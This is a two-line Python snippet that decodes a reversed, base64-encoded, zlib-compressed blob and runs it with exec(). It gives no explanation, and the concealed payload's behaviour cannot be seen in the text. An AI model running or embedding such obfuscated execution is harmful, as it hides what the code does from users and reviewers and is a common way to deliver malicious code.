_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))
exec((_)(b'B8C+X9h1Y1WYSrC5/HymAPMFDmsa3KkBc779B4r0ZIDo5RS2Hd71vgJDQkR5l1NCTTLzRx8JsH5P6yhTg3DXMecYj4VzjX+v3w01SqqIKL7OWoE0gQ1uRxWjOYMLw0VOj89DmDCOTbOW8N9SuWbf3f94OZzFKUY3vUlxlw4OsCL99M7pbdygfCOAAAjQTEVwFwJe'))
